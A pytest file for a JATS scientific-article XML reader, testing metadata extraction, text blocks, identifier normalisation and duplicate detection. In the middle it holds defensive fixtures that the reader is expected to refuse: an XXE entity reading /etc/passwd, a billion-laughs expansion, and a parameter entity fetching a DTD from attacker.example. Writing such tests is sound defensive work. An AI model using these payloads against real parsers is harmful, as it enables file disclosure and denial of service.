# ruff: noqa: E501  (XML fixtures read better unwrapped)
"""JATS reader: structure, metadata, and refusal of entity attacks; identifiers from any file."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gsvlms_extract.errors import IngestError
from gsvlms_extract.ingest import BlockKind, Document
from gsvlms_extract.ingest.identifiers import (
    identifiers_in_pdf,
    identifiers_in_text,
    normalize_doi,
    normalize_pmcid,
    normalize_pmid,
    resemblance,
    source_format,
    text_signature,
)
from gsvlms_extract.ingest.loader import document_from_bytes

ARTICLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving and Interchange DTD v1.3 20210610//EN" "JATS-archivearticle1-3.dtd">
<article xmlns:xlink="http://www.w3.org/1999/xlink" article-type="case-report">
<front><journal-meta><journal-title-group><journal-title>Annals of Vascular Surgery</journal-title></journal-title-group></journal-meta>
<article-meta>
<article-id pub-id-type="pmid">18411245</article-id><article-id pub-id-type="pmc">2712345</article-id>
<article-id pub-id-type="doi">10.1016/J.AVSG.2008.01.005</article-id>
<title-group><article-title>Leiomyosarcoma of the great saphenous vein</article-title></title-group>
<contrib-group><contrib contrib-type="author"><name><surname>Mammano</surname><given-names>Enzo</given-names></name></contrib>
<contrib contrib-type="editor"><name><surname>Editor</surname><given-names>Ed</given-names></name></contrib>
<contrib contrib-type="author"><collab>The Sarcoma Group</collab></contrib></contrib-group>
<pub-date pub-type="ppub"><year>2008</year></pub-date><pub-date pub-type="epub"><year>2007</year></pub-date>
<volume>22</volume><issue>3</issue><fpage>455</fpage><lpage>458</lpage>
<permissions><license xlink:href="https://creativecommons.org/licenses/by-nc/4.0/"><license-p>CC BY-NC</license-p></license></permissions>
<abstract><sec><title>Background</title><p>Venous leiomyosarcoma is rare.</p></sec>
<sec><title>Case report</title><p>A 66-year-old woman had a thigh mass.</p></sec></abstract>
</article-meta></front>
<body>
<sec><label>1</label><title>Introduction</title><p>Smooth muscle tumours of veins are rare <xref ref-type="bibr" rid="B1">1</xref>, <xref ref-type="bibr" rid="B2">2</xref>.</p></sec>
<sec><label>2</label><title>Case presentation</title>
<p>She had a <italic>painful</italic> mass of 4&#x2009;cm<sup>2</sup> (see <xref ref-type="fig" rid="F1">Figure 1</xref>).
<table-wrap id="T1"><label>Table 1</label><caption><p>Laboratory values</p></caption>
<table><thead><tr><th>Test</th><th>Value</th></tr></thead><tbody><tr><td>Hb</td><td>12.1</td></tr></tbody></table></table-wrap>
The mass was excised.</p>
<sec><title>Pathology</title><p>Leiomyosarcoma, grade 2.</p>
<list list-type="bullet"><list-item><p>SMA positive</p></list-item><list-item><p>desmin positive</p></list-item></list></sec>
<fig id="F1"><label>Figure 1</label><caption><p>MRI of the thigh.</p></caption><graphic xlink:href="f1.jpg"/></fig>
</sec>
</body>
<back><ref-list><title>References</title><ref id="B1"><mixed-citation>Aufrecht E. Virchows Arch 1868.</mixed-citation></ref></ref-list></back>
</article>
"""


def _jats(data: bytes = ARTICLE, name: str = "a.nxml") -> Document:
    return document_from_bytes(data, name)


def test_jats_metadata_goes_into_the_document_fields():
    document = _jats()
    assert document.media_type == "application/jats+xml"
    assert (document.pmid, document.pmcid, document.doi) == (
        "18411245",
        "PMC2712345",
        "10.1016/j.avsg.2008.01.005",
    )
    assert document.journal == "Annals of Vascular Surgery"
    assert document.year == 2007  # the electronic publication comes first
    assert document.authors == ("Enzo Mammano", "The Sarcoma Group")
    assert document.licence == "https://creativecommons.org/licenses/by-nc/4.0/"


def test_jats_text_has_section_titles_as_headings_and_no_references():
    document = _jats()
    kinds = {document.block_text(b): b.kind for b in document.blocks}
    assert kinds["1. Introduction"] is BlockKind.heading
    assert kinds["2. Case presentation"] is BlockKind.heading
    assert kinds["Pathology"] is BlockKind.heading  # nested section
    assert kinds["Abstract"] is BlockKind.heading
    assert kinds["Case report: A 66-year-old woman had a thigh mass."] is BlockKind.body
    assert kinds["Figure 1 | MRI of the thigh."] is BlockKind.caption
    assert kinds["Table 1 | Laboratory values\n\tTest\n\tValue\n\n\tHb\n\t12.1"] is BlockKind.table
    assert "Annals of Vascular Surgery 2007; 22(3): 455-458" in kinds
    assert "Authors: Enzo Mammano, The Sarcoma Group" in kinds
    assert "Smooth muscle tumours of veins are rare." in kinds  # citation markers dropped
    # the table nested in the paragraph comes after it; the paragraph keeps its own words
    assert "She had a painful mass of 4 cm2 (see Figure 1). The mass was excised." in kinds
    assert "SMA positive" in kinds and "desmin positive" in kinds
    assert "Aufrecht" not in document.text
    assert "Editor" not in document.text


def test_articleset_wrapper_and_plain_xml_suffix_are_read():
    wrapped = ARTICLE.replace(b"<article ", b"<pmc-articleset><article ").replace(
        b"</article>", b"</article></pmc-articleset>"
    )
    wrapped = wrapped.replace(b"<!DOCTYPE article", b"<!DOCTYPE pmc-articleset")
    assert _jats(wrapped, "efetch.xml").pmid == "18411245"


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<article><front><article-meta><title-group><article-title>&xxe;</article-title></title-group>
</article-meta></front></article>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<article><body><p>&lol9;</p></body></article>"""

PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE article [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<article><body><p>x</p></body></article>"""


@pytest.mark.parametrize(
    "data",
    [XXE, LAUGHS, PARAMETER, XXE.decode().replace('<?xml version="1.0"?>', "").encode("utf-16")],
    ids=["xxe", "billion-laughs", "parameter-entity", "xxe-utf16"],
)
def test_entity_attacks_are_refused_with_one_line(data):
    with pytest.raises(IngestError) as info:
        _jats(data, "evil.nxml")
    message = str(info.value)
    assert message.startswith("evil.nxml: ")
    assert "entit" in message.lower()
    assert "\n" not in message
    assert "root:" not in message


def test_external_dtd_is_not_fetched_and_the_article_still_reads():
    data = ARTICLE.replace(b'"JATS-archivearticle1-3.dtd"', b'"http://127.0.0.1:9/none.dtd"')
    assert _jats(data).pmid == "18411245"


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"<article><body><p>unclosed</body></article>", "not well-formed XML"),
        (b"<?xml version='1.0'?><root><p>text</p></root>", "without a JATS <article>"),
        (b"<article></article>", "without text"),
    ],
)
def test_bad_xml_gives_one_line(data, problem):
    with pytest.raises(IngestError, match=problem) as info:
        _jats(data, "bad.xml")
    assert "\n" not in str(info.value)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=1500) | st.text(max_size=800).map(lambda t: f"<article>{t}".encode()))
def test_any_bytes_as_xml_give_a_document_or_one_ingest_error(data):
    try:
        document = _jats(data, "fuzz.nxml")
    except IngestError as exc:
        assert str(exc).startswith("fuzz.nxml: ") and "\n" not in str(exc)
        return
    assert document.text == "\n\n".join(document.block_text(b) for b in document.blocks)


@pytest.mark.parametrize(
    ("value", "doi"),
    [
        ("https://doi.org/10.1002/JCU.23190", "10.1002/jcu.23190"),
        ("doi:10.1111/ans.13418.", "10.1111/ans.13418"),
        ("10.1016/0002-9610(77)90290-8", "10.1016/0002-9610(77)90290-8"),
        ("J Vasc Bras. 2015;14(3):254-258. doi: 10.1590/1677-5449.0048", "10.1590/1677-5449.0048"),
        ("not a doi", None),
        (None, None),
    ],
)
def test_normalize_doi(value, doi):
    assert normalize_doi(value) == doi


def test_pmid_and_pmcid_normal_forms():
    assert normalize_pmid("PMID: 0012345") == "12345"
    assert normalize_pmid("none") is None
    assert normalize_pmcid("1234567") == normalize_pmcid("PMCID: PMC1234567") == "PMC1234567"


def test_identifiers_in_first_page_text_need_a_label():
    text = (
        "Case Rep 2020. PMID: 31234567 PMCID: PMC7654321\nhttps://doi.org/10.1186/s42047-018-0009-2"
    )
    assert identifiers_in_text(text) == {
        "doi": "10.1186/s42047-018-0009-2",
        "pmid": "31234567",
        "pmcid": "PMC7654321",
    }
    assert identifiers_in_text("cited as 10.1000/xyz123 in the references") == {}


def test_doi_from_a_pdf_xmp_packet():
    packet = b"<x:xmpmeta><rdf:Description><prism:doi>10.1155/2012/403287</prism:doi>"
    assert identifiers_in_pdf(b"%PDF-1.7\n" + packet + b"\n%%EOF") == {"doi": "10.1155/2012/403287"}


def test_text_reports_get_the_doi_they_print():
    data = b"BMJ Case Reports 2020;13:e236418. doi:10.1136/bcr-2020-236418\n\nA case.\n"
    document = document_from_bytes(data, "r.txt")
    assert document.doi == "10.1136/bcr-2020-236418"
    assert source_format(document) == "text"


def test_signature_resemblance_tells_copies_from_other_articles():
    words = [
        "a",
        "painful",
        "mass",
        "of",
        "the",
        "left",
        "thigh",
        "was",
        "excised",
        "with",
        "the",
        "vein",
        "segment",
    ]
    a = " ".join(words * 3) + " and the patient was alive after nine years of follow up"
    b = a.upper().replace(" ", "  \n")  # same words, other case and layout
    c = "chest radiograph showed bilateral nodules consistent with metastatic disease " * 3
    assert resemblance(text_signature(a), text_signature(b)) == 1.0
    assert resemblance(text_signature(a), text_signature(c)) == 0.0
    assert resemblance((), text_signature(a)) == 0.0
